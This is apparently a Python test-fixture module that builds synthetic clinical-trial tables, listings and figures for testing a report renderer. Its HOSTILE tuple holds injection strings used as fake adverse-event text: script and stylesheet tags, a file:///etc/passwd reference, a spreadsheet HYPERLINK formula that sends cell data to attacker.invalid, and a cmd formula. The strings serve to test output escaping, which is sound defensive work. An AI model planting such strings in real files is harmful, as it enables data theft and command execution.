"""Small hand-made TLFs for the render and report tests (this module holds no tests).

The real TLF builders live in ``osteo_stats.tlf``; these fixtures stand in for them so the
rendering layer can be tested on its own: a small table with its ARD, a wide nested table with
hostile verbatim text, a long landscape listing, a figure with a small SVG, the stage-1 status
table, and an efficacy table that the DMC report must leave out.
"""

from __future__ import annotations

import pandas as pd
from shipped import SHIPPED, shipped_analysis

from osteo_stats.derive.analysis_data import AnalysisData
from osteo_stats.tlf.ard import ARDBuilder
from osteo_stats.tlf.model import TLF, TLFOutput
from osteo_stats.tlf.plots.style import figure_style, figure_to_svg, new_figure

SYNTHETIC = SHIPPED

#: Hostile verbatim AE text: markup, local-file and network references, CSS, formulas.
HOSTILE = (
    '<script>alert("x")</script>',
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="http://attacker.invalid/evil.css">',
    "<style>@import url(http://attacker.invalid/x.css); body{display:none}</style>",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "\tTabbed",
    "{\\rtf1 injected} \\par",
    "Fièvre ≥ 3 — naïve 😀",
)

SOURCE = "Source: osteo_stats 0.1.0 (render tests), data cut-off 2026-04-30, SAP 1.0, ARD {ids}"


def synthetic_ad() -> AnalysisData:
    """The shipped synthetic trial, derived once per test session (the ``shipped_ad`` fixture)."""
    return shipped_analysis()


def _tlf(kind, number, title, aset, ids, **kw) -> TLF:
    return TLF(
        kind=kind,
        number=number,
        title=title,
        analysis_set=aset,
        footnotes=kw.pop("footnotes", ("Percentages use the SAF as denominator (SAP 9.2).",)),
        source=SOURCE.format(ids=", ".join(ids)),
        analysis_ids=tuple(ids),
        **kw,
    )


def accrual_table() -> TLFOutput:
    b = ARDBuilder("DSP-ACCR-01", "Table 14.1.3", "FAS")
    b.add("N", 30, parameter="ENROLLED")
    b.add("N", 43, parameter="PLANNED ENROLLMENT")
    for month, cum, expected in (
        ("2025-01", 10, 9.0),
        ("2025-02", 20, 21.5),
        ("2025-03", 30, 34.0),
    ):
        b.add("n", cum, parameter="CUMULATIVE ENROLLED", group={"MONTH": month})
        b.add("expected", expected, parameter="CUMULATIVE ENROLLED", group={"MONTH": month})
    b.add("expected", 34.0, parameter="CUMULATIVE ENROLLED", group={"AT": "DATA CUT-OFF"})
    body = pd.DataFrame(
        {
            "Month": ["2025-01", "2025-02", "2025-03"],
            "Cumulative enrolled": ["10", "20", "30"],
            "Planned cumulative": ["9.0", "21.5", "34.0"],
        }
    )
    tlf = _tlf(
        "Table",
        "14.1.3",
        "Enrollment and accrual against plan",
        "Full analysis set (N = 30)",
        ["DSP-ACCR-01"],
        body=body,
    )
    return TLFOutput(tlf, b.build())


def teae_overview() -> TLFOutput:
    b = ARDBuilder("SAF-AE-01", "Table 14.3.1", "SAF")
    b.add("N", 30, parameter="SAF")
    rows = [
        ("Any TEAE", 29),
        ("Grade >= 3 TEAE", 12),
        ("Serious TEAE", 7),
        ("TEAE leading to death", 0),
    ]
    for label, n in rows:
        b.add("n", n, parameter="TEAE", group={"ROW": label})
    body = pd.DataFrame(
        {
            "": [label for label, _ in rows],
            "Patients, n (%)": ["29 (96.7)", "12 (40.0)", "7 (23.3)", "0"],
        }
    )
    tlf = _tlf(
        "Table",
        "14.3.1",
        "Overview of treatment-emergent adverse events",
        "Safety analysis set (N = 30)",
        ["SAF-AE-01"],
        body=body,
    )
    return TLFOutput(tlf, b.build())


def hostile_soc_table() -> TLFOutput:
    """A nested SOC / preferred term table whose terms are hostile text."""
    b = ARDBuilder("SAF-AE-02", "Table 14.3.2", "SAF")
    terms = ["Gastrointestinal disorders", *(f"    {h}" for h in HOSTILE), "  -12.5"]
    for i, term in enumerate(terms):
        b.add("n", i, parameter="TEAE", group={"AEDECOD": term.strip()})
    body = pd.DataFrame(
        {
            "System organ class\n  Preferred term": terms,
            "All grades n (%)": ["12 (40.0)"] + ["1 (3.3)"] * len(HOSTILE) + ["-12.5"],
            "Grade >= 3 n (%)": ["3 (10.0)"] + ["0"] * len(HOSTILE) + ["-1.2 (-3.4, 0.5)"],
        }
    )
    tlf = _tlf(
        "Table",
        "14.3.2",
        "TEAEs by SOC and preferred term: all grades and grade >= 3",
        "Safety analysis set (N = 30)",
        ["SAF-AE-02"],
        body=body,
        footnotes=("Verbatim terms are shown as recorded: " + HOSTILE[1],),
    )
    return TLFOutput(tlf, b.build())


def long_listing(n_rows: int = 240) -> TLFOutput:
    """A wide, long listing: many pages, landscape, header repeated on each page."""
    rows = []
    for i in range(n_rows):
        rows.append(
            {
                "Patient": f"PROMIS-{1 + i // 6:02d}-{i:03d}",
                "AE no.": str(i % 6 + 1),
                "Verbatim term": HOSTILE[i % len(HOSTILE)]
                if i % 7 == 0
                else f"Neutropenia episode {i}",
                "Preferred term": "Neutrophil count decreased",
                "System organ class": "Investigations",
                "Onset (day)": f"2025-0{1 + i % 9}-1{i % 10} ({i + 3})",
                "End": "2025-10-01" if i % 3 else "ongoing",
                "Grade": str(3 + i % 2),
                "Serious": "Y" if i % 5 == 0 else "N",
                "Related": "SBRT; gemcitabine" if i % 2 else "penpulimab",
                "Action taken": "DOSE DELAYED",
                "Outcome": "RECOVERED/RESOLVED",
            }
        )
    tlf = _tlf(
        "Listing",
        "16.2.7.2",
        "Adverse events of grade >= 3",
        "Safety analysis set (N = 30)",
        ["SAF-AE-02"],
        body=pd.DataFrame(rows),
        landscape=True,
        footnotes=("Imputed dates are flagged (SAP 8.3).",),
    )
    b = ARDBuilder("SAF-AE-02", "Listing 16.2.7.2", "SAF")
    return TLFOutput(tlf, b.build())


def boundary_figure() -> TLFOutput:
    with figure_style():
        fig = new_figure(7.0, 3.8)
        ax = fig.add_subplot()
        looks = [5, 10, 15, 20, 25, 30, 35, 40, 43]
        ax.step(looks, [3, 5, 6, 8, 9, 11, 12, 14, 15], where="post", label="Stopping boundary")
        ax.plot([5, 10, 15, 20, 25, 30], [0, 1, 2, 2, 3, 4], marker="o", label="Observed")
        ax.set_xlabel("Patients evaluable")
        ax.set_ylabel("Patients with unacceptable toxicity")
        ax.legend(frameon=False)
        svg = figure_to_svg(fig)
    tlf = _tlf(
        "Figure",
        "14.3.1",
        "Toxicity stopping boundary with observed cumulative count",
        "Safety analysis set (N = 30)",
        ["TOX-BDRY-01"],
        svg=svg,
    )
    return TLFOutput(tlf, toxicity_ard(crossed_at_look_2=False))


def toxicity_ard(crossed_at_look_2: bool):
    """TOX-BDRY-01 rows as the monitoring builder writes them (see render.summary)."""
    b = ARDBuilder("TOX-BDRY-01", "Table 14.3.5", "SAF")
    b.add("n", 12, parameter="UTOX", group={"STATUS": "EVALUABLE"})
    b.add("n", 4 if crossed_at_look_2 else 2, parameter="UTOX",
          group={"STATUS": "EVALUABLE WITH UNACCEPTABLE TOXICITY"})  # fmt: skip
    for look, n_k, b_k, x_k in (
        (1, 5, 2, 1),
        (2, 10, 3, 4 if crossed_at_look_2 else 2),
        (3, 15, 5, None),
    ):
        g = {"LOOK": look}
        b.add("N", n_k, parameter="UTOX", group=g)
        b.add("boundary", b_k, parameter="UTOX", group=g)
        b.add("reached", x_k is not None, parameter="UTOX", group=g)
        b.add("observed", x_k, parameter="UTOX", group=g)
        b.add("crossed", None if x_k is None else float(x_k > b_k), parameter="UTOX", group=g)
    return b.build()


def futility_table(decision: str = "continue") -> TLFOutput:
    """Table 14.2.3; ``decision`` is ``"continue"``, ``"stop"`` or ``"pending"``."""
    b = ARDBuilder("EFF-PRIM-02", "Table 14.2.3", "FAS-STAGE1")
    b.add("N", 13, parameter="PRIMARY")
    b.add("boundary", 3, parameter="PRIMARY")
    successes = {"continue": 4, "stop": 2, "pending": 3}[decision]
    for status, count in (("EVALUABLE", 10), ("SUCCESS", successes),
                          ("FAILURE", 10 - successes), ("PENDING", 3)):  # fmt: skip
        b.add("n", count, parameter="PRIMARY", group={"STATUS": status})
    b.add("reached", decision != "pending", parameter="PRIMARY", group={"STATUS": "DECISION"})
    b.add("crossed", decision == "continue", parameter="PRIMARY", group={"STATUS": "DECISION"})
    text = {"continue": "continue to stage 2", "stop": "stop for futility recommended",
            "pending": "pending"}[decision]  # fmt: skip
    body = pd.DataFrame(
        {
            "": [
                "Evaluable of the first 13",
                "Successes",
                "Failures",
                "Not yet evaluable",
                "Status",
            ],
            "Stage 1": ["10", str(successes), str(10 - successes), "3", text],
        }
    )
    tlf = _tlf(
        "Table",
        "14.2.3",
        "Stage-1 futility status",
        "FAS, stage 1 (N = 13)",
        ["EFF-PRIM-02"],
        body=body,
    )
    return TLFOutput(tlf, b.build())


def efficacy_table() -> TLFOutput:
    """An efficacy estimate: shown in the final report only (SAP 10.1)."""
    b = ARDBuilder("EFF-PRIM-01", "Table 14.2.1", "FAS")
    b.add_ci(0.372, 0.23, 0.533, 0.95, parameter="PRIMARY")
    body = pd.DataFrame({"": ["2-year EFS rate (UMVUE)"], "FAS (N = 43)": ["37.2 (23.0, 53.3)"]})
    tlf = _tlf(
        "Table",
        "14.2.1",
        "Primary endpoint: 2-year EFS rate with design-based inference",
        "Full analysis set (N = 43)",
        ["EFF-PRIM-01"],
        body=body,
    )
    return TLFOutput(tlf, b.build())


def fixture_outputs(n_listing_rows: int = 240) -> list[TLFOutput]:
    """Every fixture TLF, in catalogue-like order."""
    return [
        accrual_table(),
        efficacy_table(),
        futility_table(),
        teae_overview(),
        hostile_soc_table(),
        boundary_figure(),
        long_listing(n_listing_rows),
    ]


def key_result_rows(html: str) -> list[tuple[str, str, str, str]]:
    """The key-results page of a final report's HTML: (label, value, link target, link text)."""
    import html as html_lib
    import re

    start = html.index('<section class="key-results"')
    page = html[start : html.index("</section>", start)]
    rows = re.findall(
        r'<tr><th scope="row"(?: class="indent")?>(.*?)</th><td class="value">(.*?)</td>'
        r'<td class="from"><a href="#(.*?)">(.*?)</a></td></tr>',
        page,
    )
    return [tuple(html_lib.unescape(cell) for cell in row) for row in rows]
